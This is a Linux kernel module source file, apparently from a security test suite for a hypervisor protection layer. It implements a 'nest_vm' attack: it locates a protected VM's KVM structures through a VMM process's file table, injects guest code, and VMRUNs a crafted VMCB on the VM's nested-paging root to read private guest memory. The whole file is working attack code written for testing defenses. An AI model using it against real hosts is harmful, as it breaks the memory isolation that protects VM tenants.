// SPDX-License-Identifier: GPL-2.0
/*
 * nest_vm PID CODE_GPA READ_GPA: a second VMCB12 that reuses a protected VM's
 * nested-paging root (issue 13 point 5, tests/scenarios/protected-vm/attacks.sh).
 *
 * A hostile host does not need the VM's vCPU to reach its memory: it can VMRUN a VMCB
 * of its own whose N_CR3 is the VM's root (bound to the VM's vbh domain, so vbh's
 * shadow of it holds the private frames), with the guest's own page tables (CR3) and
 * code the host wrote into the guest's shared memory. Found the way a ring-0 attacker
 * finds them: the VMM's file table holds the VM's file ("kvm-vm"), whose private_data
 * is KVM's struct kvm; vCPU 0 gives the root (arch.mmu->root.hpa) and the guest's CR3.
 * The L2 code (3 instructions) goes into the VMM's memory at CODE_GPA: gfn_to_hva()
 * (taken with symbol_get, so this module loads without KVM) gives the VMM's address,
 * access_process_vm() writes there as ptrace would. It reads the qword at READ_GPA into
 * rcx and exits with VMMCALL. CODE_GPA must be a page the guest already touched (KVM
 * maps a page in its table on the guest's first access).
 */
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/kvm_host.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched/task.h>
#include <asm/svm.h>
#include "attack.h"
#include "nested.h"
#include "probe.h"

/* movq (%rbx), %rcx; vmmcall; ud2: the same as l2_stub.S, as bytes for guest memory */
static const u8 l2_code[] = { 0x48, 0x8b, 0x0b, 0x0f, 0x01, 0xd9, 0x0f, 0x0b };

/* The VMM process's VM file ("kvm-vm") and, in *task, the process; both with a
 * reference. NULL if it has none. */
static struct file *vm_file(pid_t nr, struct task_struct **task)
{
	struct pid *pid = find_get_pid(nr);
	struct task_struct *t = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
	struct files_struct *files;
	struct file *f, *hit = NULL;
	struct fdtable *fdt;
	unsigned int i;

	put_pid(pid);
	if (!t)
		return NULL;
	task_lock(t);
	files = t->files;
	if (files) {
		spin_lock(&files->file_lock);
		fdt = files_fdtable(files);
		for (i = 0; i < fdt->max_fds && !hit; i++) {
			f = rcu_dereference_protected(fdt->fd[i], lockdep_is_held(&files->file_lock));
			if (f && !strcmp(f->f_path.dentry->d_name.name, "kvm-vm"))
				hit = get_file(f);
		}
		spin_unlock(&files->file_lock);
	}
	task_unlock(t);
	if (hit)
		*task = t;
	else
		put_task_struct(t);
	return hit;
}

/* Write the L2 code at gpa into the VMM's memory; 0 or a negative errno. */
static int write_code(struct task_struct *t, struct kvm *kvm, u64 gpa)
{
	unsigned long (*to_hva)(struct kvm *kvm, gfn_t gfn);
	unsigned long hva;
	int idx, n;

	to_hva = symbol_get(gfn_to_hva);
	if (!to_hva)
		return -ENOENT;
	idx = srcu_read_lock(&kvm->srcu);
	hva = to_hva(kvm, gpa >> PAGE_SHIFT);
	srcu_read_unlock(&kvm->srcu, idx);
	symbol_put(gfn_to_hva);
	if (kvm_is_error_hva(hva))
		return -EFAULT;
	hva += offset_in_page(gpa);
	n = access_process_vm(t, hva, (void *)l2_code, sizeof(l2_code), FOLL_WRITE | FOLL_FORCE);
	out("code_hva=0x%lx ", hva);
	return n == sizeof(l2_code) ? 0 : -EIO;
}

static int cmd_nest_vm(int argc, const u64 *a)
{
	struct task_struct *t = NULL;
	struct vmcb *v = svm_page(SVM_VMCB);
	void *hsave = svm_page(SVM_HSAVE);
	struct file *f = vm_file(a[0], &t);
	struct kvm_vcpu *vcpu;
	u64 root, cr3, efer, l2_before, l2_after;
	struct nest_out o;
	unsigned long flags;
	int err;

	if (!f) {
		out("result=error reason=no_vm_file pid=%llu\n", a[0]);
		return 0;
	}
	vcpu = kvm_get_vcpu(f->private_data, 0);
	err = !v || !hsave || !svm_page(SVM_STACK) ? -ENOMEM : 0;
	if (!err && (!vcpu || !vcpu->arch.mmu || !VALID_PAGE(vcpu->arch.mmu->root.hpa)))
		err = -ESRCH;
	if (!err) {
		root = vcpu->arch.mmu->root.hpa;
		cr3 = vcpu->arch.cr3;
		err = write_code(t, vcpu->kvm, a[1]);
		out("root=0x%llx cr3=0x%llx code_written=%d ", root, cr3, err);
	}
	fput(f);
	put_task_struct(t);
	if (err) {
		out("result=error err=%d\n", err);
		return 0;
	}

	nest_craft(v, vbh_attack_l2_stub);
	v->control.nested_ctl = SVM_NESTED_CTL_NP_ENABLE;
	v->control.nested_cr3 = root;
	v->save.cr3 = cr3;
	v->save.rip = a[1];
	/* The guest's pages may be user pages: no SMEP/SMAP/PKE trap on the way. */
	v->save.cr4 &= ~(X86_CR4_SMEP | X86_CR4_SMAP | X86_CR4_PKE);
	local_irq_save(flags);
	svm_on(&efer);
	l2_before = nest_l2_entries();
	nest_vmrun(v, __pa(v), __pa(hsave), (const void *)a[2], &o);
	l2_after = nest_l2_entries();
	svm_restore(efer);
	local_irq_restore(flags);
	if (l2_before == ~0ull || l2_after == ~0ull)
		out("l2_entries=none ");
	else
		out("l2_entries=%llu ", l2_after - l2_before);
	nest_out_print(&o);
	return 0;
}

const struct atk_cmd prot_nest_cmds[] = {
	{ "nest_vm", 3, cmd_nest_vm,
	  "PID CODE_GPA READ_GPA  VMRUN on a VMM's VM root: its L2 reads READ_GPA" },
	{ }
};
